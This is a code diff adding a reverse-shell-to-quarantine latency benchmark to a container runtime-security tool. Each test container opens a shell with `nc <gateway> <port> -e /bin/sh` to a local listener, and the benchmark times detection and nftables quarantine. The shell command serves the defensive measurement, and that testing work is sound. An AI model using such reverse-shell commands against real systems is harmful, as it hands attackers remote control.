@@ -5,12 +5,25 @@
  *  - sensor (bpftrace) and detector (this Node process) CPU and RSS, idle with
  *    BENCH_RUNTIME_IDLE_CONTAINERS containers (default 20) running;
  *  - the same at increasing exec rates (1, 2, 4, 8 parallel exec loops in one container), with
- *    events lost in the kernel and execs missed, to show where drops start.
+ *    events lost in the kernel and execs missed, to show where drops start;
+ *  - a reverse shell → quarantine live, the whole loop through `containment up` (runUp in this
+ *    process, enforcing): p50/p99 over BENCH_RUNTIME_UP_SHELLS reverse shells (default 50), each in
+ *    a fresh container (a quarantined one stays quarantined, and repeats are aggregated), from the
+ *    listener accepting the shell's connection (nc connects, then execs the shell) to the
+ *    Quarantine's outcome (reported once the nftables table is in the container's netns).
  * A benchmark, not a test: it fails when eBPF or Podman is missing.
  */
-import { readFileSync, statSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { createServer } from 'node:net';
+import type { AddressInfo, Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import pino from 'pino';
 import type { SensorEvent } from '../src/runtime/contracts.js';
 import { execFileSync, spawn } from 'node:child_process';
+import { freePortRun } from '../src/testing/ports.js';
+import type { AuditLink } from '../src/up/audit.js';
+import { runUp } from '../src/up/run-up.js';
 import { RuntimeDetector } from '../src/runtime/detector.js';
 import { RuleRegistry } from '../src/runtime/rules/registry.js';
 import { parseRuleFile } from '../src/runtime/rules/user-rules.js';
@@ -18,6 +31,7 @@ import { RuntimeFixture, ebpfMissing } from '../src/runtime/runtime-fixture.test
 
 const EXECS = Number(process.env.BENCH_RUNTIME_EXECS ?? 300);
 const IDLE = Number(process.env.BENCH_RUNTIME_IDLE_CONTAINERS ?? 20);
+const SHELLS = Number(process.env.BENCH_RUNTIME_UP_SHELLS ?? 50);
 const CLK_TCK = 100;
 
 const missing = ebpfMissing();
@@ -192,7 +206,142 @@ try {
   console.log(
     `totals: events ${s.events}, lost ${s.lostEvents}, parse failures ${s.parseFailures}, restarts ${s.restarts}, not in a container ${s.droppedNoContainer}`,
   );
+  await detector.stop(); // up's agent runs its own sensor
+  await reverseShellToQuarantine();
 } finally {
   await detector.stop();
   fixture.cleanup();
+}
+
+/** Runs `podman` without blocking this event loop (a blocked loop would delay the timestamps). */
+function podman(args: string[]): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const child = spawn('podman', args, { stdio: ['ignore', 'pipe', 'ignore'] });
+    let out = '';
+    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
+    child.on('exit', (code) =>
+      code === 0 ? resolve(out) : reject(new Error(`podman ${args[0]} exited ${code}`)),
+    );
+  });
+}
+
+async function until<T>(
+  get: () => T | undefined | Promise<T | undefined>,
+  ms: number,
+): Promise<T | undefined> {
+  const end = Date.now() + ms;
+  while (Date.now() < end) {
+    const v = await get();
+    if (v !== undefined) return v;
+    await sleep(20);
+  }
+  return undefined;
+}
+
+/** 5. The whole loop through up: reverse shell exec → quarantine live, one fresh container each. */
+async function reverseShellToQuarantine(): Promise<void> {
+  const dataDir = mkdtempSync(join(tmpdir(), 'containment-bench-up-'));
+  const labelValue = String(process.pid);
+  const quarantined = new Map<string, number>();
+  const failed: string[] = [];
+  const up = await runUp({
+    dataDir,
+    port: await freePortRun(),
+    rescanIntervalMs: 600_000,
+    rematchIntervalMs: 60_000,
+    gracePeriodSeconds: 1,
+    labels: { 'containment-bench-up': labelValue },
+    runtimeDetection: 'on',
+    enforce: true,
+    onDecision: (d) => {
+      if (d.action !== 'Quarantine') return;
+      const pod = d.workload.split('/')[1] ?? '';
+      if (d.outcome === 'done') quarantined.set(pod, performance.now());
+      else failed.push(`${pod}: ${d.outcome} ${d.message ?? ''}`);
+    },
+    logger: pino({ level: 'silent' }),
+    notice: () => {},
+  });
+  const accepted: number[] = [];
+  const acceptedAt: number[] = []; // wall clock, to line up with the records' times
+  /** Per shell, ms from the accept to: detected, policy activation start, action start, action done. */
+  const stages: number[][] = [];
+  const sockets = new Set<Socket>();
+  const server = createServer((socket) => {
+    accepted.push(performance.now());
+    acceptedAt.push(Date.now());
+    sockets.add(socket);
+    socket.on('error', () => {});
+  });
+  const samples: number[] = [];
+  let live = 0;
+  try {
+    const first = fixture.run(['--label', `containment-bench-up=${labelValue}`]);
+    const [info] = JSON.parse(await podman(['inspect', first.name])) as {
+      NetworkSettings: { Networks?: Record<string, { Gateway: string }> };
+    }[];
+    const gateway = Object.values(info?.NetworkSettings.Networks ?? {})[0]?.Gateway ?? '';
+    await new Promise<void>((r) => server.listen(0, gateway, r));
+    const { port } = server.address() as AddressInfo;
+    const scanned = async (pod: string): Promise<true | undefined> => {
+      const q = new URLSearchParams({ cluster: 'local', namespace: 'local', pod });
+      const res = await fetch(`${up.scannerUrl}/v1/findings?${q}`, {
+        headers: { authorization: `Bearer ${up.adminToken}` },
+      });
+      return res.status === 200 ? true : undefined;
+    };
+    const auditOf = async (pod: string): Promise<AuditLink | undefined> => {
+      const res = await fetch(`${up.actionApiUrl}/v1/audit?namespace=local&pod=${pod}`, {
+        headers: { authorization: `Bearer ${up.adminToken}` },
+      });
+      return ((await res.json()) as { trail: AuditLink[] }).trail[0];
+    };
+    for (let i = 0; i < SHELLS; i++) {
+      const c = i === 0 ? first : fixture.run(['--label', `containment-bench-up=${labelValue}`]);
+      // The agent knows the container (its start scan is in) before the shell: no scan in the figure.
+      if ((await until(() => scanned(c.name), 30_000)) === undefined)
+        throw new Error(`${c.name} not scanned`);
+      const before = accepted.length;
+      await podman(['exec', '-d', c.name, 'nc', gateway, String(port), '-e', '/bin/sh']);
+      const t0 = await until(() => accepted[before], 10_000);
+      const t1 = await until(() => quarantined.get(c.name), 10_000);
+      if (t0 === undefined || t1 === undefined) {
+        failed.push(`${c.name}: ${t0 === undefined ? 'no connection' : 'no quarantine within 10 s'}`);
+        continue;
+      }
+      samples.push(t1 - t0);
+      const link = await auditOf(c.name);
+      if (link?.detection && link.activation && link.action.startedAt && link.action.completedAt) {
+        const at = acceptedAt[before] as number;
+        stages.push([
+          Date.parse(link.detection.firstSeen) - at,
+          link.activation.start - at,
+          Date.parse(link.action.startedAt) - at,
+          Date.parse(link.action.completedAt) - at,
+        ]);
+      }
+      const tables = execFileSync('nsenter', ['-t', String(c.pid), '-n', 'nft', 'list', 'tables'], {
+        encoding: 'utf8',
+      });
+      if (tables.includes('containment_quarantine')) live++;
+      await podman(['rm', '--force', '--time', '0', c.name]).catch(() => {});
+    }
+  } finally {
+    for (const s of sockets) s.destroy();
+    server.close();
+    await up.close();
+    rmSync(dataDir, { recursive: true, force: true });
+  }
+  const sorted = [...samples].sort((x, y) => x - y);
+  console.log(
+    `reverse shell → quarantine live through up (${samples.length}/${SHELLS} shells, one container each; nftables table seen in ${live}): p50 ${pct(sorted, 50).toFixed(0)} ms, p99 ${pct(sorted, 99).toFixed(0)} ms, max ${sorted.at(-1)?.toFixed(0)} ms; load average now ${readFileSync('/proc/loadavg', 'utf8').split(' ').slice(0, 3).join(' ')}`,
+  );
+  const median = (i: number): string => {
+    const v = stages.map((st) => st[i] as number).sort((x, y) => x - y);
+    return pct(v, 50).toFixed(0);
+  };
+  console.log(
+    `  medians from the accept (${stages.length} audited, wall clock ms): detected ${median(0)}, policy activation started ${median(1)}, Quarantine started ${median(2)}, done ${median(3)}`,
+  );
+  if (failed.length > 0) console.log(`  not measured: ${failed.join('; ')}`);
 }
